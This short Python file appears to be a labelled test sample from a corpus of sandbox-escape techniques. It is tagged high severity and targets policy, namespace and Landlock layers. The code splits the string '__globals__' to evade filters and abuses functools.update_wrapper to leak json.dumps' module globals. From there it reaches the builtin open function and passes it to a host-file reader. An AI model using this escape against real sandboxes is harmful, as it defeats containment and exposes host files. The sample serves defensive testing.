# technique: a library merges an attribute that it is named into the program's own
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import functools
import json

class Catch:
    def update(self, other):
        found.append(other)

class Box:
    pass

found = []

def trick():
    name = "__glo" + "bals__"
    box = Box()
    vars(box)[name] = Catch()
    functools.update_wrapper(box, json.dumps, assigned=(), updated=(name,))
    return found[0]["__built" + "ins__"]["open"]

read_host(trick)
